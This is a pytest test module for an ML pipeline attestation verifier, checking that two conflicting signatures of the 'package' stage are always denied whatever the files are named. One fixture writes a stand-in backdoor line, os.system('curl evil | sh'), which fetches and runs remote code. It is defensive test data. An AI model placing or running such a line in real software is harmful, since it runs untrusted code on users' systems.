"""A verdict never depends on file names, listing order, or which record was read first.

The scenario from issue 10: the release key signs ``package`` twice in one run,
first with a backdoored model, then with the clean one. Whatever the files are
called, verify must deny (a conflict naming both), never pick one of them.
"""

from __future__ import annotations

import shutil
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mlspec_attest.verify.report import Check, VerificationReport

from .support import KeyPair, Pipeline, checks_of

NAME = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789_-", min_size=1, max_size=12)


def _two_packages(pipeline: Pipeline) -> tuple[Path, Path]:
    """Run the pipeline with package signed twice by the release key; return both files."""
    for stage in ("ingest", "split"):
        pipeline.sign(stage)
    pipeline.sign_all_signers("train")
    pipeline.sign("package")  # builds dist/model from the trained model
    backdoor = pipeline.ws / "dist/model/backdoor.py"
    backdoor.write_bytes(b"import os; os.system('curl evil | sh')\n")
    pipeline.sign("package", build=False)
    run_dir = pipeline.store.run_dir(pipeline.run_id)
    packages = sorted(p for p in run_dir.iterdir() if p.name.startswith("package."))
    if len(packages) == 1:
        # A store that kept only one file per stage and key: keep the first aside.
        raise AssertionError("the store overwrote the first package attestation")
    return packages[0], packages[1]


def _backdoored_and_clean(pipeline: Pipeline) -> tuple[Path, Path]:
    backdoored = pipeline.root / "deploy-backdoored"
    shutil.copytree(pipeline.ws / "dist/model", backdoored)
    (pipeline.ws / "dist/model/backdoor.py").unlink()
    return backdoored, pipeline.ws / "dist/model"


def _verdict(report: VerificationReport) -> tuple[bool, Counter[tuple[str, str | None]]]:
    return report.passed, Counter((f.check.value, f.stage) for f in report.failures)


def _verify(pipeline: Pipeline, model: Path) -> VerificationReport:
    artifacts = {"model": model, "train-data": pipeline.ws / "data/split/train.csv"}
    return pipeline.verify(artifacts=artifacts)


@pytest.fixture
def two_packages(pipeline: Pipeline) -> Pipeline:
    _two_packages(pipeline)
    return pipeline


def test_two_versions_of_a_stage_are_a_conflict_naming_both(two_packages: Pipeline) -> None:
    backdoored, clean = _backdoored_and_clean(two_packages)
    for model in (backdoored, clean):
        report = _verify(two_packages, model)
        assert not report.passed
        conflicts = [f for f in report.failures if f.check is Check.CONFLICT]
        assert [f.stage for f in conflicts] == ["package"]
        files = sorted(
            p.name
            for p in two_packages.store.run_dir(two_packages.run_id).iterdir()
            if p.name.startswith("package.")
        )
        assert all(name in conflicts[0].found for name in files)
        assert "release-engineer" in conflicts[0].found
        assert "products" in conflicts[0].message


def test_renaming_the_files_never_flips_the_verdict(two_packages: Pipeline) -> None:
    backdoored, _ = _backdoored_and_clean(two_packages)
    run_dir = two_packages.store.run_dir(two_packages.run_id)
    first, second = sorted(p for p in run_dir.iterdir() if p.name.startswith("package."))
    before = _verdict(_verify(two_packages, backdoored))
    # Swap the names: the file that sorted first now sorts last, and back.
    tmp = run_dir / "swap.tmp-name"
    first.rename(tmp)
    second.rename(first)
    tmp.rename(second)
    after = _verdict(_verify(two_packages, backdoored))
    assert before == after
    assert before[0] is False and before[1][("conflicting-attestations", "package")] == 1


def test_identical_retries_by_one_key_agree(pipeline: Pipeline) -> None:
    """Signing the same result twice (a retried step) is not a conflict."""
    for stage in ("ingest", "split"):
        pipeline.sign(stage)
    pipeline.sign_all_signers("train")
    pipeline.sign("package")
    run_dir = pipeline.store.run_dir(pipeline.run_id)
    original = next(p for p in run_dir.iterdir() if p.name.startswith("package."))
    shutil.copy(original, run_dir / "package.retry.sigstore.json")
    report = pipeline.verify()
    assert report.passed, [f.to_json() for f in report.failures]


@settings(max_examples=12)
@given(data=st.data())
def test_permuted_names_give_the_same_verdict(
    tmp_path_factory: pytest.TempPathFactory,
    pipeline_template: Path,
    keys: dict[str, KeyPair],
    data: st.DataObject,
) -> None:
    """Property: any renaming of every attestation file in the run, same verdict."""
    root = tmp_path_factory.mktemp("perm")
    work = root / "copy"
    shutil.copytree(pipeline_template, work, symlinks=True)
    pipeline = Pipeline(work, keys)  # same keys and policy text: the same signed policy
    reference = _verdict(_verify(pipeline, pipeline.ws / "dist/model"))
    run_dir = pipeline.store.run_dir(pipeline.run_id)
    files = sorted(p for p in run_dir.iterdir() if p.is_file())
    names = data.draw(st.lists(NAME, min_size=len(files), max_size=len(files), unique=True))
    staged = [f.rename(f.with_name(f".staging-{i}")) for i, f in enumerate(files)]
    for path, name in zip(staged, names, strict=True):
        path.rename(run_dir / f"{name}.sigstore.json")
    assert _verdict(_verify(pipeline, pipeline.ws / "dist/model")) == reference
    assert reference[0] is False  # the template holds two versions of package


@pytest.fixture(scope="module")
def pipeline_template(tmp_path_factory: pytest.TempPathFactory, keys: dict[str, KeyPair]) -> Path:
    root = tmp_path_factory.mktemp("template")
    pipeline = Pipeline(root, keys)
    _two_packages(pipeline)
    return root


def test_a_rejected_extra_attestation_is_reported_not_chosen(pipeline: Pipeline) -> None:
    """An unreadable extra file in the run is a failure of its own, whatever its name."""
    pipeline.run()
    run_dir = pipeline.store.run_dir(pipeline.run_id)
    (run_dir / "0000.sigstore.json").write_bytes(b"{}")
    report = pipeline.verify()
    assert Check.ATTESTATION_MALFORMED in checks_of(report)
